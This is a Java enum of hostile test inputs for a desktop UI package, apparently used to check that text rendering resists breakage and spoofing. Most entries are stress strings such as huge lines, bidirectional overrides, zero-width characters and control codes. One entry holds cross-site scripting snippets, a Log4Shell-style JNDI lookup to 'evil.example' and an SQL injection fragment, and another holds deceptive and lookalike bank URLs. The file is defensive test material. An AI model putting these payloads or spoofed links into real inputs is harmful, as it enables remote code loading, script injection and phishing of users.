package io.deskwire.ui;

/** What a stranger may write to break a window, or to look like somebody else. */
enum BadInput {
  LINE_WITHOUT_SPACES("x".repeat(16_384)), EMPTY_LINES("first" + "\n".repeat(5_000) + "last"), RIGHT_TO_LEFT(
      "שלום עולם, מה שלומך? The order 4711 لم يصل بعد إلى العنوان, and שבת שלום. ".repeat(12)), OVERRIDES(
          "invoice-\u202Egpj.exe\u202C \u2067evil\u2069 \u202B\u202D" + "\u202E".repeat(400) + "drowssap"), COMBINING(
              "Z\u0337\u0301\u0302\u0303".repeat(3) + ("e" + "\u0301".repeat(900)).repeat(12)), ZERO_WIDTH(
                  "a\u200Bnn\u2060a" + "\u200B\u200C\u200D\uFEFF\u2060".repeat(2_000) + "end"), NOTHING_SEEN(
                      "\u200B\u2060\u3164\u2800"), EMOJI("👨‍👩‍👧‍👦🏳️‍🌈🇩🇪1️⃣👍🏽🏴󠁧󠁢󠁷󠁬󠁳󠁿".repeat(200)
                          + "\u200D\u200D\uD83D x \uDE00"), MARKUP(
                              "<script>alert(1)</script><img src=x onerror=alert(1)> ${jndi:ldap://evil.example/a} {0} %s %n ''; DROP--"), OTHER_ADDRESS(
                                  "https://bank.example@evil.example/login [https://bank.example](https://evil.example) http://b\u0430nk.example"), ADDRESSES(
                                      "http://a.example/x ".repeat(800)), CLOSERS(
                                          "http://a.example/" + ")]".repeat(8_000)), CONTROLS(
                                              "\u0000\u0007\u001B[31mred\u001B[0m\u0008\u007F\u0085\u009B\r\n\u2028\u2029\u000B\u000C\uFFFE\uFFFF end");

  private final String text;

  BadInput(String text) {
    this.text = text;
  }

  String text() {
    return text;
  }
}
